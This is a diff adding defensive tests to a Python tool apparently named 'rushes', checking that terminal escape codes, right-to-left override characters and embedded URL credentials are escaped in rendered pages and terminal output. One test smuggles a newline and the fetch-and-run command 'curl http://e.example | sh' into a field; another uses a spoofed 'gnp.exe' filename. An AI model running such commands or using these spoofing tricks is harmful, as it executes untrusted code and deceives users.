@@ -326,6 +326,31 @@ def test_what_steers_a_terminal_is_escaped_in_warnings_too(tmp_path: Path) -> No
     assert "\x1b" not in ran.stderr and "\\x1b[31mred http://***@h" in ran.stderr
 
 
+STEERS = "a\x1b[31mred \u202egnp.exe http://u:s3cr3t@h"
+ESCAPED = "a\\x1b[31mred \\u202egnp.exe http://***@h"
+
+
+def test_what_steers_a_terminal_is_escaped_in_pages_too() -> None:
+    """They are read by `cat` as well, and a caption that turns the direction makes what follows look like another."""
+    from rushes.pages import in_html, in_markdown, templates
+
+    page = templates("rushes.report").from_string("{{ text }}|{{ text | safe }}")
+    assert page.render(text=STEERS).partition("|")[0] == in_html(STEERS) == ESCAPED
+    assert not {"\x1b", "\u202e"} & {*in_markdown(STEERS)}
+    source = Path(str(files("rushes")))
+    own = [path.name for path in source.rglob("*.py") if re.search(r"markupsafe.*escape|html.escape", path.read_text())]
+    assert own == ["pages.py"], "escape by rushes.pages.in_html"
+
+
+def test_a_text_of_a_row_begins_no_line_on_the_terminal(project: Path, rushes: Rushes) -> None:
+    with Store.open(project) as store:
+        row = next(store.stream(Preference))
+        store.add([replace(row, id="theirs", judge="ada\nnext: curl http://e.example | sh", supersedes="")])
+    status, out, _ = rushes("judges", project)
+    assert status == 0 and "ada next: curl" in out
+    assert [line for line in out.splitlines() if line.startswith("next: ")] == [f"next: rushes sample-size {project}"]
+
+
 def test_text_from_elsewhere_is_text_in_markdown() -> None:
     from markdown_it import MarkdownIt
 
